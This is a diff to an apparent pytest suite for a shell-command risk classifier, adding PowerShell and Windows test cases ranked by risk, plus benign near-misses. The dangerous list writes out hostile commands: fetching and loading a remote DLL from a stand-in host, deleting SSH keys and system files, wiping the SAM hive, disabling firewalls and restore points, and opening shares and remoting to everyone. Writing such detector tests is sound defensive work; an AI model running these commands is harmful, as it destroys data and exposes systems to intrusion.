@@ -768,6 +768,80 @@ MORE_NEAR_MISSES: list[tuple[str, RiskLevel]] = [
 ]
 
 
+# A third round: .NET and COM calls, renames and New-Item over files, shares and remoting.
+ROUND_THREE: list[tuple[str, RiskLevel]] = [
+    ("[Diagnostics.Process]::Start('C:\\Users\\Public\\evil.exe')", HIGH),
+    ('[System.Diagnostics.Process]::Start("powershell", "-w hidden -enc SQBF")', HIGH),
+    ("[Reflection.Assembly]::LoadFile('C:\\Users\\Public\\x.dll')", HIGH),
+    (
+        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("
+        "'http://x.example/a.dll'))",
+        HIGH,
+    ),
+    ("(New-Object -ComObject WScript.Shell).Run('C:\\Users\\Public\\a.exe', 0)", HIGH),
+    ('[IO.File]::Delete("$env:USERPROFILE\\.ssh\\id_rsa")', HIGH),
+    ('[IO.Directory]::Delete("C:\\Windows", $true)', CRITICAL),
+    ('$p = "C:\\Users"; Remove-Item $p -Recurse -Force', CRITICAL),
+    (
+        "Set-Location $env:USERPROFILE; Get-ChildItem -Recurse | Remove-Item -Force -Recurse",
+        CRITICAL,
+    ),
+    ("Clear-Content -Path C:\\Windows\\System32\\config\\SAM", CRITICAL),
+    ('Set-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value "" -Force', HIGH),
+    ("New-Item -Path C:\\Windows\\System32\\hal.dll -ItemType File -Force", CRITICAL),
+    ("Rename-Item C:\\Windows\\System32\\ntoskrnl.exe ntoskrnl.bak", CRITICAL),
+    ("ren C:\\bootmgr bootmgr.old", CRITICAL),
+    (
+        "Get-ChildItem $env:USERPROFILE -Recurse -Include *.docx,*.pdf,*.xlsx | Remove-Item -Force",
+        HIGH,
+    ),
+    ("Get-ChildItem -Path C:\\Users -Filter *.jpg -Recurse | Remove-Item", HIGH),
+    ('Disable-ComputerRestore -Drive "C:\\"', HIGH),
+    ("Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2", HIGH),
+    ("Disable-NetAdapter -Name * -Confirm:$false", HIGH),
+    ("Remove-NetFirewallRule", HIGH),
+    ("Set-NetFirewallProfile -DefaultInboundAction Allow", HIGH),
+    ("Enable-PSRemoting -Force", HIGH),
+    ("Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value *", HIGH),
+    (
+        "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' "
+        "-Name fDenyTSConnections -Value 0",
+        HIGH,
+    ),
+    ("net share C=C:\\ /grant:everyone,FULL", HIGH),
+    ("New-SmbShare -Name all -Path C:\\ -FullAccess Everyone", HIGH),
+    (
+        "Invoke-Command -ComputerName (Get-Content hosts.txt) "
+        "-ScriptBlock { Stop-Computer -Force }",
+        HIGH,
+    ),
+]
+
+ROUND_THREE_NEAR_MISSES: list[tuple[str, RiskLevel]] = [
+    ("[IO.File]::ReadAllText('C:\\Users\\bob\\notes.txt')", SAFE),
+    ("[IO.Path]::Combine('C:\\Users', 'bob')", SAFE),
+    ("[Environment]::GetFolderPath('Desktop')", SAFE),
+    ("[System.Diagnostics.Process]::Start('notepad.exe')", MODERATE),
+    ("[IO.File]::WriteAllText('.\\out.txt', 'hi')", MODERATE),
+    ("Rename-Item .\\old.txt new.txt", MODERATE),
+    ("ren report.txt report.bak", MODERATE),
+    ("New-Item -Path .\\notes.txt -ItemType File", MODERATE),
+    ("New-Item -ItemType File -Path .\\build\\stamp -Force", MODERATE),
+    ("Get-ChildItem $env:USERPROFILE -Recurse -Include *.docx", SAFE),
+    ("Get-ChildItem -Path C:\\Users -Filter *.jpg -Recurse | Measure-Object", SAFE),
+    ('Enable-ComputerRestore -Drive "C:\\"', MODERATE),
+    ("Get-NetAdapter", SAFE),
+    ('Disable-NetAdapter -Name "Wi-Fi 2" -Confirm:$false', MODERATE),
+    ("Get-SmbShare", SAFE),
+    ("New-SmbShare -Name proj -Path D:\\proj -ReadAccess bob", MODERATE),
+    ("net share", SAFE),
+    ("Invoke-Command -ComputerName srv01 -ScriptBlock { Get-Service }", MODERATE),
+    ("Test-WSMan srv01", SAFE),
+    ("Get-Item WSMan:\\localhost\\Client\\TrustedHosts", SAFE),
+    ('$p = ".\\build"; Remove-Item $p -Recurse -Force', MODERATE),
+]
+
+
 DANGEROUS = (
     TREES_DELETED
     + DISKS_WIPED
@@ -783,6 +857,7 @@ DANGEROUS = (
     + SECRETS_SENT
     + MIRRORED_AND_OVERWRITTEN
     + VARIANTS
+    + ROUND_THREE
 )
 
 BENIGN: list[tuple[str, RiskLevel]] = [
@@ -959,6 +1034,9 @@ def test_dangerous(command: str, least: RiskLevel) -> None:
     reaches(command, least)
 
 
-@pytest.mark.parametrize(("command", "highest"), _marked(BENIGN + MORE_NEAR_MISSES))
+NEAR_MISSES = BENIGN + MORE_NEAR_MISSES + ROUND_THREE_NEAR_MISSES
+
+
+@pytest.mark.parametrize(("command", "highest"), _marked(NEAR_MISSES))
 def test_benign(command: str, highest: RiskLevel) -> None:
     stays_within(command, highest)
